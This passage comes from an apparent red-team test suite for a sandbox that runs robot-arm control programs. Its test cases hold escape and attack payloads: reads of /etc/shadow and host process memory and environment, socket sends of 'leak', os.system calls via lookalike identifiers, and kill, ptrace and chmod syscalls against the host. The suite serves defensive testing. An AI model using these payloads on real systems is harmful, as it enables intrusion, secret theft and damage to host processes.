forge('{"type":"call","id":2,"skill":"move_to","args":{"position":[0.2,0.0,0.1],'
      '"speed":-1e400}}')
forge('{"type":"call","id":3,"skill":"go_home","args":{"speed":1e400}}')
forge('{"type":"call","id":4,"skill":"push","args":{"obj":"red block","target":[0.2,-1e999,0]}}')
""",
        reach=True,
    ),
    Attack(
        "forged_10mb_line",
        ESCAPE
        + """
print("REACHED forging")
os.write(1, b'{"type":"print","text":"' + b"A" * 10_000_000 + b'"}' + bytes([10]))
os.read(0, 10)
""",
        kinds=("protocol",),
    ),
    Attack(
        "forged_deeply_nested_json",
        ESCAPE
        + """
print("REACHED forging")
os.write(1, b'{"type":"call","id":1,"skill":"say","args":{"text":' + b"[" * 200000
         + b"]" * 200000 + b"}}" + bytes([10]))
os.read(0, 10)
""",
        kinds=("protocol",),
    ),
    Attack(
        "forged_not_json",
        ESCAPE
        + """
print("REACHED forging")
os.write(1, bytes([0, 255]) + b" not json {{{" + bytes([10]))
os.read(0, 10)
""",
        kinds=("protocol",),
    ),
    Attack(
        "forged_unknown_skill_and_bad_shapes",
        ESCAPE
        + """
def forge(text):
    os.write(1, text.encode() + bytes([10]))
    print("REACHED reply", os.read(0, 1 << 16)[:200])
forge('{"type":"call","id":1,"skill":"self_destruct","args":{}}')
forge('{"type":"call","id":2,"skill":"__import__","args":{"name":"os"}}')
forge('{"type":"call","id":3,"skill":"move_to","args":{"position":[0.9,0,0.1],"force":true}}')
forge('{"type":"call","id":4,"skill":"move_to","args":{}}')
forge('{"type":"call","id":5,"skill":"move_to","args":{"position":[' + "0.1," * 200000 + '0.1]}}')
forge('{"type":"call","id":6,"skill":"move_to","args":[[0.9,0,0.1]]}')
""",
        kinds=("protocol",),
        reach=True,
    ),
    Attack(
        "unknown_objects",
        """
for name in ("unicorn", "../../etc/passwd", "red block; go_home()", "r\\u0435d block",
             "RED BLOCK", "", "x" * 65):
    for call in (lambda: pick(name), lambda: push(name, [0.2, 0.0, 0.0]),
                 lambda: put_first_on_second(name, "green bowl"),
                 lambda: put_first_on_second("red block", name)):
        try:
            call()
            print("accepted!", name)
        except Exception as exc:
            print("refused:", exc.__class__.__name__)
pick("unicorn")
""",
        kinds=("invalid", "skill"),
    ),
    Attack(
        "targets_outside_workspace",
        """
for call in (lambda: move_to([0.9, 0.0, 0.1]), lambda: move_to([0.2, 0.0, -0.05]),
             lambda: move_to([0.2, 0.0, 0.6]), lambda: move_to([0.2, -0.4, 0.1]),
             lambda: move_to([-0.3, 0.0, 0.1]), lambda: place([0.2, -0.6, 0.0]),
             lambda: put_first_on_second("red block", [2.0, 0.0, 0.0]),
             lambda: put_first_on_second("red block", [0.2, 0.3, 0.0])):
    try:
        call()
        print("accepted!")
    except Exception as exc:
        print("refused:", exc.__class__.__name__)
move_to([0.9, 0.0, 0.1])
""",
        kinds=("denied", "limit"),  # limit: refused calls' host planning is on the clock
    ),
    Attack(
        "push_to_far_away_targets",
        """
for target in ([0.9, 0.9, 0.0], [0.2, -0.6, 0.0], [10.0, -10.0, 0.0], [0.0, 0.0, 0.0],
               [0.2, 0.5, 0.0]):
    for obj in ("red block", "green bowl"):
        try:
            push(obj, target, speed=0.25)
            print("accepted!")
        except SkillError as exc:
            print("refused:", exc.kind)
push("red block", [0.9, 0.9, 0.0])
""",
        kinds=("denied", "limit"),  # limit: refused calls' host planning is on the clock
    ),
    Attack(
        "allowed_moves_along_the_workspace_edges",
        """
for p in ([0.05, -0.25, 0.0], [0.3, -0.2, 0.005], [0.06, 0.05, 0.0], [0.05, -0.25, 0.0]):
    move_to(p, speed=0.25)
go_home(speed=0.25)
push("red block", [0.05, -0.25, 0.0], speed=0.25)
go_home(speed=0.25)
""",
        kinds=("ok", "skill", "denied"),  # denied: a joint-space move bulges past an edge
        still=False,
    ),
    Attack(
        "allowed_moves_just_outside_the_keep_out_zone",
        """
move_to([0.06, 0.14, 0.0], speed=0.25)
move_to([0.3, 0.14, 0.005], speed=0.25)
go_home(speed=0.25)
""",
        still=False,
    ),
    Attack(
        "speed_above_cap",
        """
for speed in (0.26, 0.3, 0.5, 10.0, -1.0, 0.0):
    for call in (lambda: move_to([0.2, 0.0, 0.1], speed=speed), lambda: go_home(speed=speed),
                 lambda: pick("red block", speed=speed)):
        try:
            call()
            print("accepted!", speed)
        except Exception as exc:
            print("refused:", exc.__class__.__name__)
move_to([0.2, 0.0, 0.1], speed=0.3)
""",
        kinds=("denied",),
    ),
    Attack("keep_out_zone_target", "move_to([0.2, 0.2, 0.1])\n", kinds=("stopped",)),
    Attack("skill_call_budget", "for i in range(10 ** 5):\n    get_ee_pos()\n", kinds=("limit",)),
    # ---------------------------------------------------------------- egress and secrets
    Attack(
        "socket_connect_via_ctypes",
        ESCAPE
        + """
def sockaddr(port):
    return ((2).to_bytes(2, "little") + port.to_bytes(2, "big") + bytes([127, 0, 0, 1])
            + bytes(8))
fd = attempt("socket tcp", libc.socket, 2, 1, 0)
attempt("connect tcp", libc.connect, fd, sockaddr(@TCP_PORT@), 16)
fd2 = attempt("socket udp", libc.socket, 2, 2, 0)
attempt("sendto udp", libc.sendto, fd2, b"leak", 4, 0, sockaddr(@UDP_PORT@), 16)
attempt("raw socket syscall", libc.syscall, 41, 2, 1, 0)
attempt("socketpair", libc.socketpair, 1, 1, 0, (ctypes.c_int * 2)())
attempt("import socket", RB["__import__"], "socket")
attempt("errno", ctypes.get_errno)
""",
        reach=True,
    ),
    Attack(
        "read_secrets_and_host_files",
        ESCAPE
        + """
ppid = os.getppid()
print("REACHED child environ", dict(os.environ))
def read(path):
    fd = os.open(path, os.O_RDONLY)
    return os.read(fd, 1 << 16)
for path in ("/proc/%d/environ" % ppid, "/proc/%d/cmdline" % ppid, "/proc/%d/mem" % ppid,
             "/proc/self/environ", @SECRET_FILE@, @HOST_FILE@, "/etc/shadow", "/etc/passwd"):
    attempt("read " + path, read, path)
attempt("readlink parent cwd", os.readlink, "/proc/%d/cwd" % ppid)
attempt("listdir host dir", os.listdir, "/proc/%d/fd" % ppid)
buf = ctypes.create_string_buffer(256)
class IOV(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
local = IOV(ctypes.addressof(buf), 256)
remote = IOV(0x400000, 256)
attempt("process_vm_readv", libc.process_vm_readv, ppid, ctypes.byref(local), 1,
        ctypes.byref(remote), 1, 0)
print(buf.raw)
""",
        reach=True,
    ),
    Attack(
        "write_to_host_stdio",
        ESCAPE
        + """
mark = @MARK@.encode()
ppid = os.getppid()
attempt("stderr pipe", os.write, 2, mark + bytes([10]))
for path in ("/proc/%d/fd/1" % ppid, "/proc/%d/fd/2" % ppid, "/dev/tty", "/dev/stdout",
             "/dev/console"):
    attempt("open " + path, os.open, path, os.O_WRONLY)
attempt("dup2 stderr over stdout", os.dup2, 2, 1)
os.write(1, mark + bytes([10]))
""",
        reach=False,
    ),
    # ---------------------------------------------------------------- parser tricks
    Attack(
        "nfkc_lookalike_identifiers",
        """
try:
    \uff45\uff58\uff45\uff43("open(" + repr(@CANARY@) + ", 'w')")
except Exception as exc:
    print("exec:", exc.__class__.__name__)
try:
    \uff4f\uff50\uff45\uff4e(@CANARY@, "w")
except Exception as exc:
    print("open:", exc.__class__.__name__)
\uff47\uff45\uff54\uff41\uff54\uff54\uff52(say, "__globals__")["os"].system("touch " + @CANARY@)
""",
        kinds=("runtime",),
    ),
    Attack("nul_bytes_in_source", "x = 1\x00\nopen(@CANARY@, 'w')\n", kinds=("runtime", "syntax")),
    Attack(
        "deeply_nested_source",
        "x = " + "-" * 60000 + "1\n" + "y = " + "(" * 300 + "1" + ")" * 300,
        kinds=("runtime", "syntax", "crashed", "limit"),
    ),
    Attack(
        "deeply_nested_expressions",
        "x = " + "[" * 90 + "]" * 90 + "\n" + "y = " + "not " * 30000 + "1\n",
        kinds=("runtime", "syntax", "crashed", "limit", "ok"),
    ),
    Attack(
        "try_except_star",
        """
try:
    raise ExceptionGroup("g", [ValueError("v")])
except* Exception as eg:
    caught = eg.exceptions[0]
try:
    caught.__traceback__.tb_frame.f_back.f_globals["os"].open(@CANARY@, 65)
except Exception as exc:
    print("guards:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
attempt("except* frame walk", caught.__traceback__.tb_frame.f_back.f_globals["os"].open,
        @CANARY@, 65)
""",
        reach=True,
    ),
    Attack(
        "breakpoint_help_input",
        """
for name in ("breakpoint", "help", "input", "open", "eval", "exec", "compile", "globals",
             "vars", "dir", "getattr", "type", "object", "memoryview", "exit", "quit"):
    try:
        print(name, __builtins__[name])
    except Exception as exc:
        print(name, "missing:", exc.__class__.__name__)
"""
        + ESCAPE
        + """
attempt("breakpoint", RB["breakpoint"])
attempt("help", RB["help"], "os")
""",
        reach=True,
    ),
    Attack(
        "early_exit_is_not_success",
        ESCAPE
        + """
print("REACHED exiting")
os._exit(0)
""",
        kinds=("crashed", "protocol", "runtime"),
    ),
    Attack(
        "forged_done_then_keep_running",
        ESCAPE
        + """
print("REACHED forging done")
os.write(1, b'{"type":"done"}' + bytes([10]))
for i in range(1000):
    try:
        os.close(os.open(@CANARY@, 65, 0o644))
    except Exception:
        pass
while True:
    pass
""",
        kinds=("ok",),
        reach=True,
    ),
    # ---------------------------------------------------------------- OS holes (see report)
    Attack(
        "fchmodat2_on_host_file",
        ESCAPE
        + """
print("REACHED fchmodat2")
attempt("fchmodat2 host file", libc.syscall, 452, -100, @HOST_FILE@.encode(), 0o777, 0)
attempt("errno", ctypes.get_errno)
""",
        reach=True,
        hole_if=X86_64 and kernel_has_syscall(452),
    ),
    Attack(
        "setxattrat_on_host_file",
        ESCAPE
        + """
class XattrArgs(ctypes.Structure):
    _fields_ = [("value", ctypes.c_uint64), ("size", ctypes.c_uint32), ("flags", ctypes.c_uint32)]
value = ctypes.create_string_buffer(b"pwned")
args = XattrArgs(ctypes.addressof(value), 5, 0)
print("REACHED setxattrat")
attempt("setxattrat host file", libc.syscall, 463, -100, @HOST_FILE@.encode(), 0,
        b"user.pwned", ctypes.byref(args), 16)
attempt("removexattrat host file", libc.syscall, 466, -100, @HOST_FILE@.encode(), 0,
        b"user.keep")
""",
        reach=True,
        hole_if=X86_64 and kernel_has_syscall(463),
    ),
    Attack(
        "file_setattr_on_host_file",
        ESCAPE
        + """
attr = (ctypes.c_uint32 * 6)()
attempt("file_getattr", libc.syscall, 468, -100, @HOST_FILE@.encode(), ctypes.byref(attr), 24, 0)
attr[0] = attr[0] | 0x80
print("REACHED file_setattr")
attempt("file_setattr nodump", libc.syscall, 469, -100, @HOST_FILE@.encode(),
        ctypes.byref(attr), 24, 0)
""",
        reach=True,
        hole_if=X86_64 and kernel_has_syscall(469),
    ),
]


def _params(attacks):
    for attack in attacks:
        marks = ()
        if attack.hole:
            marks = (pytest.mark.xfail(condition=attack.hole_if, reason=attack.hole, strict=True),)
        yield pytest.param(attack, id=attack.id, marks=marks)


# ====================================================================== tests
def test_control_benign_program_moves_the_arm_inside_the_policy(redteam):
    """Control: the probes see real motion, and a Code-as-Policies program runs and moves."""
    first = len(redteam.recorder.points)
    outcome = check_contained(
        redteam,
        """
def above(p, h):
    return np.array([p[0], p[1], p[2] + h])
blocks = [n for n in get_obj_names() if n.endswith("block")]
for name in blocks[:1]:
    p = get_obj_pos(name)
    print(name, np.round(p, 2).tolist())
move_to([0.22, -0.05, 0.12], speed=0.2)
move_to(above(get_ee_pos(), 0.02))
go_home()
say("done")
""",
        kinds=("ok",),
        still=False,
    )
    assert outcome.layers.get("seccomp") == "on" and outcome.layers.get("rlimits") == "on"
    moves = [i for i in outcome.intents if i.skill == "move_to"]
    assert moves and all(i.ok for i in moves)
    points = redteam.recorder.points[first:]
    assert len(points) > 10, "the observer saw no simulation steps"
    assert max(_dist(p, points[0]) for p in points) > 0.05, "the arm did not really move"
    assert outcome.said == ["done"]


@pytest.mark.parametrize("attack", list(_params(ATTACKS)))
def test_attack_is_contained(redteam, attack, capfd):
    check_contained(
        redteam,
        redteam.render(attack.source),
        kinds=attack.kinds,
        still=attack.still,
        reach=attack.reach,
    )
    out, err = capfd.readouterr()
    mark = redteam.values()["MARK"]
    assert mark not in out and mark not in err, "the child wrote to the host's stdout/stderr"


AST_SUBSET = (
    "subclasses_walk_os_system",
    "catch_warnings_module_builtins",
    "builtin_importer_load_module",
    "function_globals_and_builtins",
    "func_code_replacement",
    "getattr_computed_names",
    "str_format_field_access",
    "traceback_frame_walk",
    "generator_gi_frame",
    "coroutine_cr_frame",
    "async_generator_ag_frame",
    "import_statements",
    "module_attribute_backdoors",
    "numpy_attributes_to_os_sys",
    "np_load_allow_pickle",
    "np_ctypeslib",
    "array_ctypes_cdll",
    "array_tofile_and_file_io",
    "nfkc_lookalike_identifiers",
    "nul_bytes_in_source",
    "deeply_nested_source",
    "try_except_star",
    "breakpoint_help_input",
)


def test_ast_precheck_rejects_a_representative_subset(redteam):
    """With the pre-check on, these attacks are refused before any child starts."""
    by_id = {a.id: a for a in ATTACKS}
    for attack_id in AST_SUBSET:
        first = len(redteam.recorder.points)
        outcome = redteam.ast_runner.run(redteam.render(by_id[attack_id].source))
        assert outcome.kind in ("rejected", "syntax"), f"{attack_id}: {outcome.headline()}"
        assert outcome.intents == [] and outcome.output == "", attack_id
        assert not any(redteam.canary_dir.iterdir()), attack_id
        assert len(redteam.recorder.points) == first, attack_id


def test_monkey_patching_does_not_persist_into_the_next_plan(redteam):
    """Plan 1 patches skills, numpy, math and the child's machinery; plan 2 sees none of it."""
    check_contained(
        redteam,
        ESCAPE
        + """
def get_obj_names():
    return ["patched"]
np.array = None
math.pi = 4.0
say.__globals__["_Channel"].call = lambda self, skill, args: ["patched"]
say.__globals__["guards"].SAFE_BUILTIN_NAMES.append("open")
sys.modules["numpy"].zeros = None
print("REACHED patched", get_obj_names(), say("x"))
""",
        kinds=("ok",),
        reach=True,
    )
    outcome = check_contained(
        redteam,
        """
state = [sorted(get_obj_names()), round(math.pi, 5), np.array([1, 2]).tolist(),
         np.zeros(2).tolist(), "open" in __builtins__]
print("STATE", repr(state))
""",
        kinds=("ok",),
        still=True,
    )
    state = ast.literal_eval(outcome.output.split("STATE", 1)[1].strip())
    assert state == [sorted(OBJECTS), 3.14159, [1, 2], [0.0, 0.0], False]


def test_lone_surrogates_in_output_keep_the_outcome_printable(redteam):
    """Text that comes back from the child (print, say) must not crash the host's display."""
    outcome = check_contained(
        redteam,
        """
print("bad \\ud800 text")
say("also \\udfff bad")
""",
        still=True,
    )
    stream = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    stream.write(outcome.summary() + "\n" + "\n".join(outcome.said) + "\n" + outcome.to_json())
    stream.flush()


WALL = Box(min=(0.10, 0.04, -0.5), max=(0.40, 0.08, 1.0))


def test_path_between_allowed_targets_avoids_a_forbidden_zone(redteam):
    """A wall-shaped keep-out zone between two allowed targets: both endpoints are outside it,
    so a check of targets alone allows the move; the arm must still never be inside the wall."""
    plan = PrivilegePolicy.from_dict(_zone_policy("wall", WALL, "wall"), redteam.workspace, "wall")
    first = len(redteam.recorder.points)
    outcome = check_contained(
        redteam,
        """
move_to([0.22, -0.03, 0.10], speed=0.25)
move_to([0.22, 0.12, 0.10], speed=0.25)
""",
        still=False,
        plan_policy=plan,
    )
    points = redteam.recorder.points[first:]
    inside = [p for p in points if _in_box(p, WALL, 0.0)]
    assert not inside, f"the arm passed through the forbidden wall: {inside[:3]}"
    # Not vacuous: either the arm went around the wall, or the move was refused.
    crossed = [p for p in points if p[1] > WALL.max[1]]
    assert (outcome.ok and crossed) or outcome.kind in ("denied", "stopped"), outcome.summary()


PIPE_HANG = (
    ESCAPE
    + """
print("REACHED pipe", libc.fcntl(0, 1031, 4096))
for i in range(1, 65):
    os.write(1, ('{"type":"call","id":%d,"skill":"%s","args":{}}' % (i, "x" * 60)).encode()
             + bytes([10]))
lock = sys.modules["_thread"].allocate_lock()
lock.acquire()
lock.acquire()
"""
)


def test_child_that_stops_reading_does_not_hang_the_host(redteam):
    runner = SandboxRunner(
        redteam.runner.backend,
        redteam.runner.policy,
        ast_check=False,
        limits=SandboxLimits(wall_seconds=1, cpu_seconds=1, memory_mb=512),
    )
    before = set(child_pids())
    run = run_guarded(runner, PIPE_HANG, 6.0)
    assert not set(child_pids()) - before
    assert not run.hung, "run() did not return: the host is stuck writing to the child"
    assert "REACHED" in run.outcome.output and not run.outcome.ok, run.outcome.summary()


# ---------------------------------------------------------------------- sacrificial hosts
HOST_KILL = (
    ESCAPE
    + """
ppid = os.getppid()
print("REACHED host", ppid)
attempt("kill 9", os.kill, ppid, 9)
attempt("kill SIGSTOP", os.kill, ppid, 19)
attempt("killpg", os.killpg, os.getpgid(ppid), 9)
attempt("tkill", libc.syscall, 200, ppid, 9)
attempt("tgkill", libc.syscall, 234, ppid, ppid, 9)
attempt("rt_sigqueueinfo", libc.syscall, 129, ppid, 9, 0)
attempt("pidfd_open", libc.syscall, 434, ppid, 0)
attempt("ptrace attach", libc.syscall, 101, 16, ppid, 0, 0)
attempt("setpriority", os.setpriority, os.PRIO_PROCESS, ppid, 19)
attempt("prlimit64", libc.syscall, 302, ppid, 7, ctypes.byref((ctypes.c_uint64 * 2)(1, 1)), 0)
say("still here")
"""
)

HOST_FSETOWN = (
    ESCAPE
    + """
ppid = os.getppid()
print("REACHED host", ppid)
for fd in (0, 1):
    attempt("F_SETOWN", libc.fcntl, fd, 8, ppid)
    attempt("F_SETSIG SIGKILL", libc.fcntl, fd, 10, 9)
    attempt("O_ASYNC", libc.fcntl, fd, 4, libc.fcntl(fd, 3) | 0o20000)
say("the host writes this reply into our stdin pipe: SIGIO goes to the owner")
print("x" * 100000)
"""
)

HOST_SCHED = (
    ESCAPE
    + """
ppid = os.getppid()
print("REACHED host", ppid)
mask = ctypes.c_uint64(1)
attempt("sched_setaffinity", libc.syscall, 203, ppid, 8, ctypes.byref(mask))
class SchedAttr(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint32), ("policy", ctypes.c_uint32),
                ("flags", ctypes.c_uint64), ("nice", ctypes.c_int32),
                ("priority", ctypes.c_uint32), ("runtime", ctypes.c_uint64),
                ("deadline", ctypes.c_uint64), ("period", ctypes.c_uint64)]
attempt("sched_setattr nice 19", libc.syscall, 314, ppid,
        ctypes.byref(SchedAttr(48, 0, 0, 19, 0, 0, 0, 0)), 0)
attempt("sched_setscheduler SCHED_IDLE", libc.syscall, 144, ppid, 5,
        ctypes.byref(ctypes.c_int(0)))
"""
)


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(HOST_KILL, id="kill_stop_trace_renice_the_host"),
        pytest.param(HOST_FSETOWN, id="fsetown_sigkill_to_the_host"),
        pytest.param(HOST_SCHED, id="sched_attacks_on_the_host"),
    ],
)
def test_sacrificial_host_survives(redteam, source, tmp_path):
    """Attacks on the host process itself run against a separate host process."""
    report = run_in_fresh_host(source, tmp_path, timeout=40.0)
    assert not report["timed_out"], "the host hung (stopped?)"
    assert report["returncode"] == 0, f"the host died ({report['returncode']}): {report['stderr']}"
    result = report["result"]
    assert "REACHED" in result["output"], result
    assert redteam.secret not in json.dumps(result), "the secret leaked into the outcome"
    assert result["after"] == result["before"], f"host scheduling changed: {result}"
    assert result["children"] == {}, result
    orphans = [
        p for p, state in child_pids().items() if state != "Z" and CHILD_MARKER in cmdline(p)
    ]
    assert not orphans, f"sandbox children outlived their host: {orphans}"
    reap_zombies(set())  # orphans of the sacrificial host, re-parented to us (subreaper)
